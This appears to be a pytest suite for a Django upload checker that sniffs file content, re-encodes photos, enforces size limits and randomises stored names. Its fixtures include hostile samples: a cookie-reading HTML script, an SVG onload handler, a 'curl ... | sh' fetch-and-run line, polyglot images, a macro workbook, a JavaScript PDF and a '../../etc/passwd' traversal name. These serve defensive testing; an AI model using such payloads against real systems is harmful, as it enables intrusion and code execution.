"""Uploads are what their content says, within a size limit, under a random name (core/uploads.py)."""

from __future__ import annotations

import io
import re
import zipfile

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from PIL import Image

from doorstep.core.errors import DomainError
from doorstep.core.uploads import XLSX_MAIN, Kind, RandomName, upload_check

HTML = b"<!DOCTYPE html><html><body><script>alert(document.cookie)</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'
PE = b"MZ\x90\x00\x03\x00\x00\x00" + b"\x00" * 56 + b"PE\x00\x00" + b"\x00" * 200
ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 240
SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"


def image(fmt: str = "JPEG", size: tuple[int, int] = (64, 48), exif: bool = False) -> bytes:
    out = io.BytesIO()
    picture = Image.new("RGB", size, (200, 120, 40))
    if exif:
        tags = Image.Exif()
        tags[0x010E] = "GPS 23.1291N 113.2644E front door"  # ImageDescription
        tags[0x010F] = "PhoneMaker"  # Make
        picture.save(out, fmt, exif=tags.tobytes())
    else:
        picture.save(out, fmt)
    return out.getvalue()


def gif() -> bytes:
    out = io.BytesIO()
    Image.new("P", (8, 8)).save(out, "GIF")
    return out.getvalue()


def zipped(files: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return out.getvalue()


def xlsx() -> bytes:
    from openpyxl import Workbook

    book = Workbook()
    book.active.append(["客户姓名", "电话", "地址"])  # type: ignore[union-attr]
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def pdf(extra: bytes = b"") -> bytes:
    from reportlab.pdfgen import canvas

    out = io.BytesIO()
    page = canvas.Canvas(out)
    page.drawString(100, 750, "report")
    page.save()
    content = out.getvalue()
    return content.replace(b"/Type /Catalog", b"/Type /Catalog " + extra) if extra else content


REFUSED = [
    ("html named .jpg", Kind.PHOTO, HTML),
    ("svg", Kind.PHOTO, SVG),
    ("PE executable", Kind.PHOTO, PE),
    ("ELF executable", Kind.PHOTO, ELF),
    ("shell script", Kind.PHOTO, SCRIPT),
    ("gif (not a kept type)", Kind.PHOTO, gif()),
    ("gif with html after it", Kind.PHOTO, gif() + HTML),
    ("jpeg header, then garbage", Kind.PHOTO, b"\xff\xd8\xff\xe0" + b"\x00\x10JFIF" + HTML),
    ("png header, then html", Kind.PHOTO, b"\x89PNG\r\n\x1a\n" + HTML),
    ("pdf as a photo", Kind.PHOTO, pdf()),
    ("html named .csv", Kind.IMPORT, HTML),
    ("svg as an import", Kind.IMPORT, SVG),
    ("PE as an import", Kind.IMPORT, PE),
    ("ELF as an import", Kind.IMPORT, ELF),
    ("zip that is not a workbook", Kind.IMPORT, zipped({"readme.txt": b"hello", "evil.exe": PE})),
    (
        "workbook with macros",
        Kind.IMPORT,
        zipped(
            {
                "[Content_Types].xml": XLSX_MAIN,
                "xl/workbook.xml": b"<workbook/>",
                "xl/vbaProject.bin": b"\x00",
            }
        ),
    ),
    ("jpeg as an import", Kind.IMPORT, image()),
    ("UTF-16 text", Kind.IMPORT, "客户姓名,电话\n".encode("utf-16")),
    ("html as a document", Kind.DOCUMENT, HTML),
    ("pdf header only", Kind.DOCUMENT, b"%PDF-1.7\n" + HTML),
    ("pdf with JavaScript", Kind.DOCUMENT, pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")),
]


@pytest.mark.parametrize(("what", "kind", "content"), REFUSED, ids=[r[0] for r in REFUSED])
def test_content_that_is_not_what_the_field_accepts_is_refused_naming_the_field(what, kind, content) -> None:  # type: ignore[no-untyped-def]
    upload = SimpleUploadedFile("photo.jpg", content, content_type="image/jpeg")  # the claims are ignored
    with pytest.raises(DomainError) as err:
        upload_check(upload, kind=kind, field="photo", label="留言条照片")
    assert err.value.code == "upload_type" and err.value.field == "photo" and err.value.status == 400
    assert "留言条照片" in err.value.text() and "留言条照片" in err.value.text("zh-hans")
    assert "not accepted" in err.value.text("en")


@pytest.mark.parametrize(
    ("fmt", "ext", "mime"),
    [("JPEG", "jpg", "image/jpeg"), ("PNG", "png", "image/png"), ("WEBP", "webp", "image/webp")],
)
def test_a_real_photo_is_accepted_as_its_sniffed_type_whatever_its_name(fmt, ext, mime) -> None:  # type: ignore[no-untyped-def]
    clean = upload_check(
        SimpleUploadedFile("x.html", image(fmt), "text/html"), kind=Kind.PHOTO, field="photo"
    )
    assert (clean.ext, clean.mime) == (ext, mime)
    with Image.open(io.BytesIO(clean.content)) as kept:
        assert kept.format == fmt and kept.size == (64, 48)


def test_a_photo_is_re_encoded_so_trailing_html_and_exif_are_dropped() -> None:
    polyglot = image(exif=True) + HTML
    clean = upload_check(polyglot, kind=Kind.PHOTO, field="photo")
    assert (
        b"<script" not in clean.content and b"GPS" not in clean.content and b"PhoneMaker" not in clean.content
    )
    with Image.open(io.BytesIO(clean.content)) as kept:
        assert kept.format == "JPEG" and not kept.getexif()


def test_import_files_are_a_real_workbook_or_csv_text() -> None:
    assert upload_check(xlsx(), kind=Kind.IMPORT, field="file").ext == "xlsx"
    gbk = "客户姓名,电话,地址\n刘女士,13800138000,天河区\n".encode("gb18030")
    assert upload_check(gbk, kind=Kind.IMPORT, field="file").ext == "csv"
    assert upload_check(b"\xef\xbb\xbfname,phone\n", kind=Kind.IMPORT, field="file").mime == "text/csv"


def test_a_real_pdf_is_accepted_where_a_document_is_expected() -> None:
    assert upload_check(pdf(), kind=Kind.DOCUMENT, field="document").mime == "application/pdf"


def test_an_empty_file_is_refused() -> None:
    with pytest.raises(DomainError) as err:
        upload_check(b"", kind=Kind.PHOTO, field="photo")
    assert err.value.code == "upload_empty"


def test_a_file_over_its_kind_limit_is_refused_413_before_it_is_read(settings) -> None:  # type: ignore[no-untyped-def]
    settings.DOORSTEP_UPLOAD_MAX_BYTES = {"photo": 1000, "import": 5 * 1024 * 1024, "document": 1000}

    class Huge:  # a 60 MB upload as the request parser hands it over, never allocated
        size = 60 * 1024 * 1024
        name = "huge.jpg"

        def read(self, *args: object) -> bytes:
            raise AssertionError("an oversized file must not be read")

    big = Huge()
    with pytest.raises(DomainError) as err:
        upload_check(big, kind=Kind.PHOTO, field="photo", label="留言条照片")
    assert err.value.code == "upload_too_large" and err.value.status == 413 and err.value.field == "photo"
    assert "1 KB" in err.value.text() and "留言条照片" in err.value.text()
    with pytest.raises(DomainError) as err:
        upload_check(b"x" * 1001, kind=Kind.DOCUMENT, field="document")
    assert err.value.code == "upload_too_large"


def test_kept_names_are_random_with_the_sniffed_extension_only() -> None:
    name = RandomName("visits/photos")
    jpg, other = name(None, "upload.jpg"), name(None, "../../etc/passwd.html")
    assert re.fullmatch(r"visits/photos/\d{4}/\d{2}/[0-9a-f]{32}\.jpg", jpg)
    assert re.fullmatch(r"visits/photos/\d{4}/\d{2}/[0-9a-f]{32}", other)
    assert name(None, "upload.jpg") != jpg


def test_a_request_over_the_size_limit_is_answered_413_with_a_message_not_read(settings, world) -> None:  # type: ignore[no-untyped-def]
    settings.DOORSTEP_REQUEST_MAX_BYTES = 4096
    client = Client()
    client.force_login(world.staff["agent"].user)
    response = client.post("/orders/import/", {"file": SimpleUploadedFile("a.csv", b"a" * 5000)})
    assert response.status_code == 413 and "4 KB" in response.content.decode()
    api = client.post("/api/orders/", {"file": SimpleUploadedFile("a.csv", b"a" * 5000)})
    assert api.status_code == 413 and api.json()["code"] == "request_too_large"


def test_form_data_over_django_s_memory_limit_is_413_not_a_server_error(settings, world) -> None:  # type: ignore[no-untyped-def]
    settings.DATA_UPLOAD_MAX_MEMORY_SIZE = 1000
    client = Client()
    client.force_login(world.staff["agent"].user)
    response = client.post("/orders/import/", {"note": "x" * 2000})
    assert response.status_code == 413 and response["Content-Type"].startswith("text/plain")
    assert "提交的内容超过 1 KB" in response.content.decode()


def test_the_request_limits_are_set_above_the_largest_upload_kind(settings) -> None:  # type: ignore[no-untyped-def]
    largest = max(settings.DOORSTEP_UPLOAD_MAX_BYTES.values())
    assert largest < settings.DOORSTEP_REQUEST_MAX_BYTES <= 16 * 1024 * 1024
    assert settings.DATA_UPLOAD_MAX_MEMORY_SIZE <= 4 * 1024 * 1024


def test_a_phone_s_multi_picture_jpeg_is_kept_as_a_plain_jpeg() -> None:
    out = io.BytesIO()
    Image.new("RGB", (40, 30)).save(out, "MPO", save_all=True, append_images=[Image.new("RGB", (40, 30))])
    clean = upload_check(out.getvalue(), kind=Kind.PHOTO, field="photo")
    with Image.open(io.BytesIO(clean.content)) as kept:
        assert clean.ext == "jpg" and kept.format == "JPEG"
